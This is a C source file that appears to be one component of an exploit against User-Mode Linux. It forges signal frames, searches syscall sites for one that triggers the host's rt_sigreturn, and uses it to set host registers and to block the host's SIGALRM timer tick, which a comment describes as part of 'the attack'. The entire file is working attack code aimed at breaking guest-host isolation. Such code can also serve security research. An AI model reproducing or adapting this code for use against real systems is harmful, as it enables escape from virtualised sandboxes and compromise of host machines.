// SPDX-License-Identifier: GPL-2.0-only
/*
 * rt_sigreturn loads all registers, the signal mask and the alternate signal stack
 * from the frame on the stack.
 */
#include "hostile.h"

/* A host signal frame that continues at @rip with @blocked signals blocked. */
void make_frame(ucontext_t *uc, uintptr_t rip, uint64_t blocked)
{
	greg_t *regs = uc->uc_mcontext.gregs;
	static char stack[4 * PAGE] __attribute__((aligned(16)));

	memset(uc, 0, sizeof(*uc));
	uc->uc_flags = 2 | 4;	/* UC_SIGCONTEXT_SS | UC_STRICT_RESTORE_SS */
	uc->uc_stack.ss_size = 1;	/* invalid: the host keeps the old one */
	regs[REG_RIP] = (greg_t)rip;
	regs[REG_RSP] = (greg_t)(stack + sizeof(stack) - 8);
	regs[REG_EFL] = 0x202;
	regs[REG_CSGSFS] = (greg_t)((uint64_t)segment_ss() << 48 | segment_cs());
	memcpy(&uc->uc_sigmask, &blocked, sizeof(blocked));
}

/* Returns only if the frame continues at `landing`. */
long host_sigreturn(uintptr_t site, const ucontext_t *uc)
{
	struct host_call call = {
		.rax = SYS_rt_sigreturn,
		.iret = {
			.rip = site,
			.cs = segment_cs(),
			.eflags = 0x202,
			.rsp = (uint64_t)uc,
			.ss = segment_ss(),
		},
	};

	return host_call_raw(&call);
}

static void try_sigreturn(void *arg)
{
	ucontext_t uc;

	limit_child();
	make_frame(&uc, (uintptr_t)landing, 0);
	uc.uc_mcontext.gregs[REG_RAX] = 4711;
	_exit(host_sigreturn(*(uintptr_t *)arg, &uc) == 4711 ? 0 : 1);
}

/* A site where rt_sigreturn can be called, or 0. */
uintptr_t find_sigreturn(void)
{
	static bool looked;
	static uintptr_t site;
	unsigned int i;

	if (looked)
		return site;
	step("looking for an instruction that does rt_sigreturn");
	for (i = 0; i < stub.nsites && !site; i++)
		if (in_child(try_sigreturn, &stub.site[i]) == 0)
			site = stub.site[i];
	looked = true;
	return site;
}

uintptr_t sigreturn_site(void)
{
	uintptr_t site = find_sigreturn();

	if (!site)
		conclude(BLOCKED, "none of %u syscall instructions does rt_sigreturn",
			 stub.nsites);
	return site;
}

/*
 * The host's SIGALRM is UML's timer tick. If it is blocked, nothing interrupts what
 * follows. If it cannot be blocked, the attack goes on without.
 */
void block_ticks(void)
{
	uintptr_t site = find_sigreturn();
	ucontext_t uc;

	if (!site)
		return;
	make_frame(&uc, (uintptr_t)landing, HOST_SIGALRM);
	host_sigreturn(site, &uc);
}
